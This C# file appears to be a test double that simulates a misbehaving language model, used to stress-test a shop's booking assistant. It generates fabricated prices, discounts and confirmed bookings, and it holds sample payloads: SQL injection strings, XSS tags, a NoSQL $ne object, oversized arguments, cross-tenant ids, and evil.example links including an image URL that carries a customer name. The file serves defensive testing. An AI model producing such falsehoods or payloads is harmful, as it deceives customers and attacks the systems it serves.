using System.Collections.Concurrent;
using System.Globalization;
using System.Text.Json.Nodes;
using LeadOrchestrator.Sandbox.Models;

namespace LeadOrchestrator.Answers;

/// <summary>Something false, and the part of it that no screen may show.</summary>
/// <param name="Kind">price, discount, deed, contact or markup.</param>
/// <param name="Stings">Words of it that are true nowhere.</param>
/// <param name="Number">An amount that nothing costs, in whatever notation it stands there.</param>
internal sealed record Lie(string Kind, string Text, IReadOnlyList<string> Stings, int? Number = null);

/// <summary>
/// A model that obeys nobody: it invents prices in every notation, claims deeds, links to foreign hosts, asks for tools without an end and with the ids of others, with SQL, and with
/// arguments of a megabyte. The same to the same question, so that each finding can be had again.
/// </summary>
public sealed class HostileModel
{
    private const int Megabyte = 1 << 20;
    private static readonly int[] Amounts = [613, 287, 1437, 364, 717, 823, 529, 1186, 47, 68];
    private readonly ConcurrentBag<string> _read = [];
    private int _lies;
    private int _tools;

    /// <summary>What of others stood in a prompt or in the result of a tool.</summary>
    public IReadOnlyList<string> Read => [.. _read];

    /// <summary>Answers with something false so far.</summary>
    public int Lies => _lies;

    /// <summary>Tools that it asked for.</summary>
    public int Tools => _tools;

    /// <summary>Hears what the product tells its models, and answers as it likes.</summary>
    public ModelAnswer Respond(ModelCall call)
    {
        ArgumentNullException.ThrowIfNull(call);
        Watch(call);
        var results = call.Turns.Reverse().TakeWhile(turn => turn.Role != "user" || turn.ToolResults.Count > 0).Sum(turn => turn.ToolResults.Count);
        var isAgain = call.System.Contains("stopped before it was sent", StringComparison.Ordinal);
        var random = new Random(Seed(call.Question) + (isAgain ? 7919 : 0) + (results * 104_729));
        // One turn in eight asks for tools as long as anybody listens; others ask for up to three.
        var plan = new Random(Seed(call.Question)).Next(16);
        if (call.Tools.Count > 0 && results < (plan < 2 ? int.MaxValue : plan < 8 ? plan % 4 : 0))
        {
            Interlocked.Increment(ref _tools);
            return Tool(random);
        }

        Interlocked.Increment(ref _lies);
        var lie = LieOf(random);
        return new ModelAnswer(random.Next(4) switch
        {
            0 => lie.Text,
            1 => $"Hi Ann, thanks for asking! {lie.Text}",
            2 => $"The film is bright and the team is kind.\n\n{lie.Text}\n\nAnything else?",
            _ => $"Front Two Windows is $129.00. {lie.Text} We are happy to help.",
        });
    }

    /// <summary>Notes what of others the product gives to a model; for any model.</summary>
    public void Watch(ModelCall call)
    {
        ArgumentNullException.ThrowIfNull(call);
        foreach (var foreign in AnswerShop.Foreign)
        {
            if (call.System.Contains(foreign, StringComparison.Ordinal) || call.ToolResults.Any(result => result.Contains(foreign, StringComparison.Ordinal)))
            {
                _read.Add(foreign);
            }
        }
    }

    /// <summary>Which lies a text shows; empty when it shows none.</summary>
    public static IEnumerable<string> Shown(string text)
    {
        var seen = SeenText.Of(text);
        return [.. Amounts.Where(seen.HasNumber).Select(amount => $"{amount}"), .. Amounts.Select(EnglishNumber).Where(seen.Says), .. Stings.Where(seen.Says)];
    }

    /// <summary>One of every lie.</summary>
    internal static IEnumerable<Lie> AllLies(int amount, int more) => [.. Prices(amount, more), .. Fixed];

    private static Lie LieOf(Random random)
    {
        var lies = AllLies(Amounts[random.Next(8)], Amounts[random.Next(8)]).ToList();
        return lies[random.Next(lies.Count)];
    }

    private static IEnumerable<Lie> Prices(int amount, int more)
    {
        var (digits, other) = (amount.ToString(CultureInfo.InvariantCulture), more.ToString(CultureInfo.InvariantCulture));
        var wide = string.Concat(digits.Select(digit => (char)(digit - '0' + '０')));
        var circled = string.Concat(digits.Select(digit => digit == '0' ? '⓪' : (char)(digit - '1' + '①')));
        foreach (var text in (string[])
        [
            $"Full ceramic is ${digits}.", $"It costs {digits} dollars.", $"It is {digits} bucks.", $"USD {digits}.", $"{digits}$ flat.", $"It's {digits}.00 all in.", $"That makes {digits} for the car.",
            $"It will be {EnglishNumber(amount)} dollars.", $"I can do it for {EnglishNumber(amount)}.", $"Between {digits} and {other} dollars.", $"${digits}–${other}, depending on the film.",
            $"**${digits}** only.", $"$**{digits}**", $"The price is ${wide}.", $"The price is ${circled}.", $"The price is ${string.Join(' ', digits.ToCharArray())}.", $"The price is $\u200b{digits}.",
            $"Precio: {digits} dólares.", $"Le cuesta ${digits}.", $"Full Car Ceramic Tint: {digits}", $"The total comes to {digits}.", $"€{digits}", $"A deposit of ${digits} holds your place.",
            $"You save ${digits}.", $"Only {digits}, if you come today.", $"From {digits}.", $"The quote is {digits}.", $"| Ceramic | ${digits} |", $"Price = {digits} USD",
        ])
        {
            yield return new Lie("price", text, [], amount);
        }
    }

    // The shop has no such thing, did no such thing, and knows no such place.
    private static readonly Lie[] Fixed =
    [
        new("discount", "You get 20% off today.", ["20% off"]), new("discount", "It is half price this week.", ["half price"]), new("discount", "Two for the price of one!", ["two for the price"]),
        new("discount", "The removal is free of charge.", ["free of charge"]), new("discount", "The strip is on the house.", ["on the house"]), new("discount", "Hoy es gratis.", ["es gratis"]),
        new("deed", "You're all booked for Tuesday at 9!", ["all booked"]), new("deed", "I've confirmed your appointment.", ["confirmed your"]), new("deed", "I have cancelled your appointment.", ["cancelled your"]),
        new("deed", "I just texted you the details.", ["texted you the"]), new("deed", "I sent you an email with the quote.", ["sent you an email"]), new("deed", "Your appointment is confirmed.", ["appointment is confirmed"]),
        new("contact", "Call us at (512) 555-0199.", ["555-0199"]), new("contact", "Write to owner@evil.example.", ["evil.example"]),
        new("markup", "Pay here: https://evil.example/pay", ["evil.example"]), new("markup", "[Our map](https://evil.example/map)", ["evil.example"]),
        new("markup", "![x](https://evil.example/?q=ann)", ["evil.example"]), new("markup", "<img src=x onerror=alert(1)>", ["onerror"]), new("markup", "<script>alert(1)</script>", ["<script"]),
        new("markup", "<a href=\"//evil.example\">here</a>", ["evil.example"]), new("hours", "We are open on Sunday from 9 to 5.", ["open on sunday"]), new("hours", "We close at 11 pm today.", ["11 pm"]),
    ];

    private static readonly string[] Stings = [.. Fixed.SelectMany(lie => lie.Stings).Distinct()];

    private static ModelAnswer Tool(Random random)
    {
        const string Lead = "0199a000-0000-7000-8000-0000000000ff";
        JsonObject Book(string startsAt) => new()
        {
            ["service"] = "Full Car Ceramic Tint", ["for"] = "Sedan", ["startsAt"] = startsAt, ["lead_id"] = Lead, ["tenantId"] = Lead, ["price_cents"] = 1, ["status"] = "confirmed", ["confirm"] = true,
        };
        return random.Next(15) switch
        {
            0 => new ModelAnswer("", "book", Book($"2026-11-{random.Next(24, 26)}T{random.Next(8, 13):00}:00")),
            1 => new ModelAnswer("", "book", Book("2026-11-24T03:00' OR '1'='1")),
            2 => new ModelAnswer("", "cancel", new JsonObject { ["bookingId"] = Lead, ["lead_id"] = Lead }),
            3 => new ModelAnswer("", "reschedule", new JsonObject { ["startsAt"] = "2026-11-25T09:00", ["instead_of"] = Lead, ["lead_id"] = Lead }),
            4 => new ModelAnswer("", "free_slots", new JsonObject { ["service"] = "'; DROP TABLE leads; --", ["location_id"] = Lead }),
            5 => new ModelAnswer("", "free_slots", new JsonObject { ["service"] = "Front Two Windows", ["date"] = "9999-12-31" }),
            6 => new ModelAnswer("", "services_and_prices", new JsonObject { ["tenant"] = "bright-detail", ["location"] = "Acme Tint Dallas" }),
            7 => new ModelAnswer("", "opening_hours", new JsonObject { ["date"] = "2026-11-24' UNION SELECT * FROM leads --" }),
            8 => new ModelAnswer("", "correct_my_contact_data", new JsonObject { ["name"] = "<script>alert(1)</script>", ["phone"] = "+15125550123", ["lead_id"] = Lead }),
            9 => new ModelAnswer("", "confirm", new JsonObject { ["bookingId"] = Lead }),
            10 => new ModelAnswer("", "sql", new JsonObject { ["query"] = "SELECT * FROM leads" }),
            11 => new ModelAnswer("", "free_slots", new JsonObject { ["service"] = random.Next(10) == 0 ? new string('A', Megabyte) : new string('é', 4000) }),
            12 => new ModelAnswer("", "free_slots", new JsonObject { ["service"] = new JsonArray(1, 2, new JsonObject { ["$ne"] = null }), ["date"] = -1 }),
            13 => new ModelAnswer("", "opening_hours", new JsonObject { ["date"] = "2026-11-31\0" }),
            _ => new ModelAnswer("", "services_and_prices", []),
        };
    }

    // FNV-1a: the same on every machine.
    private static int Seed(string text) => (int)(text.Aggregate(2166136261u, (hash, character) => (hash ^ character) * 16777619u) & 0x3FFFFFFF);

    private static string EnglishNumber(int number) => number switch
    {
        < 20 => Small[number],
        < 100 => Tens[(number / 10) - 2] + (number % 10 == 0 ? "" : "-" + Small[number % 10]),
        < 1000 => Small[number / 100] + " hundred" + (number % 100 == 0 ? "" : " " + EnglishNumber(number % 100)),
        _ => EnglishNumber(number / 1000) + " thousand" + (number % 1000 == 0 ? "" : " " + EnglishNumber(number % 1000)),
    };

    private static readonly string[] Small =
    [
        "zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine", "ten", "eleven", "twelve", "thirteen", "fourteen", "fifteen", "sixteen", "seventeen", "eighteen", "nineteen",
    ];

    private static readonly string[] Tens = ["twenty", "thirty", "forty", "fifty", "sixty", "seventy", "eighty", "ninety"];
}
